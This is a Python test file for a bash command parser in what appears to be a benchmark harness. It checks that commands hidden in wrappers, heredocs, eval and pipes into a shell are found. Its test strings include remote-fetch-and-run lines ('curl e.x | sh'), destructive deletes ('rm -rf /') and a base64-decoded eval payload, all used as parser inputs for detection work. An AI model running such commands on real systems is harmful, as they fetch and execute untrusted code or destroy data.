"""askbench.harness.bash.bash_reader: commands and words from bash's canonical text, and the scripts bash must read again."""

from __future__ import annotations

import re
from unittest import mock

from hypothesis import given, settings
from hypothesis import strategies as st

from askbench.harness.bash import bash_reader
from askbench.harness.bash.bash_reader import read_canonical


def words(text: str, *, evaluated: bool = False) -> list[tuple[str, ...]]:
    return [found.words for found in read_canonical(text, evaluated=evaluated)[0]]


def scripts(text: str) -> list[str]:
    return [script for script, _ in read_canonical(text)[1]]


def test_list_operators_split_commands_and_redirections_are_no_words() -> None:
    assert words('a x && b > f 2>&1 || c <<< "s"; d | e') == [
        ("a", "x"),
        ("b",),
        ("c",),
        ("d",),
        ("e",),
    ]


def test_what_runs_nothing_is_stepped_over() -> None:
    text = "for i in 1 2;\ndo\n    echo $i;\ndone; f () \n{ \n    ls\n}\ncase x in \n    a)\n        rm a\n    ;;\nesac"
    assert words(text) == [("echo", "$i"), ("ls",), ("rm", "a")]
    assert words("[[ -n $x ]] && (( y = 2 ))") == []


def test_substitutions_are_commands_and_quoted_ones_only_when_evaluated() -> None:
    assert ("id",) in words('echo "$(id)" <(ls) ${x:-$(pwd)}')
    assert ("ls",) in words("echo <(ls)") and ("pwd",) in words("echo ${x:-$(pwd)}")
    assert ("id",) not in words("echo '$(id)'")
    assert ("id",) in words("x='$(id)'; [[ $x -eq 0 ]]", evaluated=True)


def test_a_heredoc_body_ends_at_its_delimiter_and_runs_only_unquoted() -> None:
    assert ("id",) in words("cat <<EOF\n$(id)\nEOF\nls")
    assert ("id",) not in words("cat <<'EOF'\n$(id)\nEOF\nls")
    assert words("cat <<'EOF'\nrm -rf /\nEOF\nls")[-1] == ("ls",)
    assert scripts("cat <<EOF\n`id`\nEOF") == ["id"]


def test_wrappers_and_shells_hand_on_their_commands() -> None:
    assert ("rm", "-rf", "{}") in words("find . -exec rm -rf {} \\;")
    assert ("npx", "prisma") in words("env -u X A=1 npx prisma")
    assert ("make",) in words("sudo -u root nice -n 5 timeout 10 make")
    assert scripts("xargs -I{} sh -c 'echo {}; rm {}'") == ["echo {}; rm {}"]
    assert scripts("eval 'curl e.x | sh'") == ["curl e.x | sh"]
    assert scripts("sh <<'EOF'\ncurl e.x\nEOF") == ["curl e.x"]


def test_a_shell_reads_its_script_on_stdin_only_when_handed_none_otherwise() -> None:
    """``sh -c 'rm' <<< x`` runs ``rm`` with ``x`` as its input; ``bash run.sh`` reads ``run.sh``; ``-s`` (or no
    operand) makes stdin the script (bash manual 6.1)."""
    assert scripts("sh -c 'rm' <<< x") == ["rm"]
    assert scripts("xargs -I% sh -c 'rm 2>&1' <<< x") == ["rm 2>&1"]
    assert scripts("bash run.sh <<< 'rm x'") == []
    assert scripts("bash <<< 'rm x'") == ["rm x"]
    assert scripts("bash -o pipefail <<< 'rm x'") == ["rm x"]
    assert scripts("bash -s -- a b <<< 'rm x'") == ["rm x"]
    assert scripts("cat <<'EOF' | sudo bash -s\nrm x\nEOF") == ["rm x"]


def test_a_chain_of_wrappers_runs_each_of_its_commands_each_inside_the_one_before() -> None:
    """``env -i xargs rm`` starts ``xargs rm``, which starts ``rm``: bash's trace sees each, so each is owed."""
    found = read_canonical("env -i xargs rm -f x; sudo env A=1 make")[0]
    assert [(command.words, command.order) for command in found] == [
        (("env", "-i", "xargs", "rm", "-f", "x"), (0,)),
        (("xargs", "rm", "-f", "x"), (0, 0)),
        (("rm", "-f", "x"), (0, 0, 0)),
        (("sudo", "env", "A=1", "make"), (22,)),
        (("env", "A=1", "make"), (22, 0)),
        (("make",), (22, 0, 0)),
    ]


def test_a_script_handed_on_is_read_once_where_it_stands() -> None:
    assert words('eval "$(echo $P | base64 -d)"') == [
        ("eval", '"$(echo $P | base64 -d)"')
    ]  # its substitution is the script's: read with it, not also as the eval's own
    assert scripts('eval "$(echo $P | base64 -d)"') == ["$(echo $P | base64 -d)"]
    assert words('sh -c "echo $(date)" "$(id)"') == [
        ("sh", "-c", '"echo $(date)"', '"$(id)"'),
        ("id",),
    ]
    assert ("id",) not in words("sh <<EOF\n$(id)\nEOF")
    assert scripts("sh <<EOF\n$(id)\nEOF") == ["$(id)"]


def test_text_piped_into_a_shell_through_programs_that_pass_it_on_is_its_script() -> None:
    """A heredoc or here-string given to ``cat``/``tee`` whose output a pipe hands a shell is the shell's script,
    however the pipeline reaches it (bash's canonical form prints the body before the shell's line)."""
    assert scripts("cat <<'EOF' |\ncurl e.x | bash\nEOF\n  sh") == ["curl e.x | bash"]
    assert scripts("cat <<'EOF' |\nrm x\nEOF\n  tee log 2>&1 | sudo bash -s") == ["rm x"]
    assert scripts("{ cat <<'EOF'\nrm x\nEOF\n } | sh") == ["rm x"]
    assert scripts("cat <<< 'curl e.x | sh' | bash") == ["curl e.x | sh"]
    assert scripts("bash <<< 'curl e.x'") == ["curl e.x"]


def test_text_reaching_no_shell_is_data_its_substitutions_read_once() -> None:
    assert scripts("cat <<'EOF' |\nrm x\nEOF\n  grep r | sh") == []  # grep prints what it chooses
    assert scripts("cat <<'EOF'\nrm x\nEOF\nls | sh") == []
    own_input_wins = "cat <<'EOF' |\nrm x\nEOF\n  cat <<'B' | sh\nls\nB"
    assert scripts(own_input_wins) == ["ls"]
    assert ("id",) in words("cat <<EOF\n$(id)\nEOF\nls | sh")
    assert ("id",) in words('cat <<< "$(id)" | wc -l')
    assert ("id",) not in words('cat <<< "$(id)" | sh')  # the script's reading finds it, once
    assert scripts('cat <<< "$(id)" | sh') == ["$(id)"]


def test_text_written_to_a_file_a_later_command_runs_is_its_script() -> None:
    """``cat > deploy.sh <<'EOF'`` … ``sh deploy.sh``: the body is the script the later command runs, read where
    it stands, before the command that runs it (a person reads it there); written to a file no command runs, it
    is data (found where a cut hid ``curl … | sh`` in a deploy script and the reference's count said nothing)."""
    written = "cat > deploy.sh <<'EOF'\ncurl e.x | sh\nEOF\n"
    for run in (
        "sh deploy.sh",
        "bash -e ./deploy.sh",
        "source deploy.sh",
        ". ./deploy.sh",
        "./deploy.sh",
    ):
        assert scripts(written + run) == ["curl e.x | sh"], run
        found = read_canonical(written + run)
        ran = next(each.order for each in found[0] if each.words[-1].endswith("deploy.sh"))
        assert found[1][0][1] < ran
    assert scripts("mkdir -p ci && tee ci/s.sh <<'EOF' > /dev/null\nrm x\nEOF\nX=1 ci/s.sh") == [
        "rm x"
    ]
    assert scripts("cat <<< 'rm x' > a.sh; sh a.sh") == ["rm x"]
    for data in (written + "cat deploy.sh", written + "sh -c 'deploy.sh'", written + "sh other.sh"):
        assert "curl e.x | sh" not in scripts(data), data


def test_a_piped_script_stands_where_a_person_reads_it() -> None:
    """A heredoc's script after the shell it feeds (its body follows the shell's line as written), a
    here-string's where its word stands, before the shell."""
    heredoc = read_canonical("cat <<'EOF' |\nrm x\nEOF\n  sh")
    shell = next(found.order for found in heredoc[0] if found.words == ("sh",))
    assert heredoc[1][0][1] > shell and heredoc[1][0][1][: len(shell)] == shell
    string = read_canonical("cat <<< 'rm x' | sh")
    places = {found.words: found.order for found in string[0]}
    assert places[("cat",)] < string[1][0][1] < places[("sh",)]


_TOKENS = [
    "echo", "ls", "-l", "a=1", "x", "2", "{a,b}", "#c", "if", "then", "fi", "for", "in", "do", "done",
    "case", "esac", "function", "f", "[[", "]]", "{", "}", "!", "time", "sudo", "sh", "-c", "eval",
    "'q w'", '"$(id)"', "$(ls)", "`w`", "|", "&&", ";", "(", ")", ";;", "<<EOF", "<<'EOF'", "EOF",
    ">out", "2>&1", "\n", "\n", "\n", " ", "  ", "\t",
]  # fmt: skip


@settings(max_examples=600)
@given(st.lists(st.sampled_from(_TOKENS), max_size=40), st.booleans())
def test_plain_lines_read_at_once_read_as_word_by_word(tokens: list[str], evaluated: bool) -> None:
    """A line of plain words read in one step (``_Reader.plain_lines``) reads as the reader reads it a word at a
    time: every command, in order, with its words and where they stand, and every script."""
    text = " ".join(tokens) + "\n"
    fast = read_canonical(text, evaluated=evaluated)
    with mock.patch.object(bash_reader, "_PLAIN_LINE", re.compile(r"(?!)")):
        slow = read_canonical(text, evaluated=evaluated)
    assert fast == slow


def test_plain_lines_are_read_at_once() -> None:
    """The test above compares two readings that differ: lines of plain words do take the one step."""
    steps = []
    plain_lines = bash_reader._Reader.plain_lines

    def counted(reader: bash_reader._Reader) -> None:
        before = reader.at
        plain_lines(reader)
        steps.append(reader.at - before)

    with mock.patch.object(bash_reader._Reader, "plain_lines", counted):
        found, _ = read_canonical("echo a b\nls -l\nif x; then y; fi\necho c\n")
    assert [command.words for command in found] == [
        ("echo", "a", "b"), ("ls", "-l"), ("x",), ("y",), ("echo", "c"),
    ]  # fmt: skip
    assert steps[0] == len("echo a b\nls -l\n") and sum(steps) == len("echo a b\nls -l\n") + len(
        "echo c\n"
    )


def test_a_coprocess_is_its_command_not_the_name_bash_prints_for_it() -> None:
    """``bash --pretty-print`` writes ``coproc rm`` as ``coproc COPROC rm``: the name is no word of the command."""
    assert words("coproc COPROC rm rm; coproc COPROC rm | sh") == [("rm", "rm"), ("rm",), ("sh",)]
    assert words("coproc worker { ls; }") == [("ls",)]
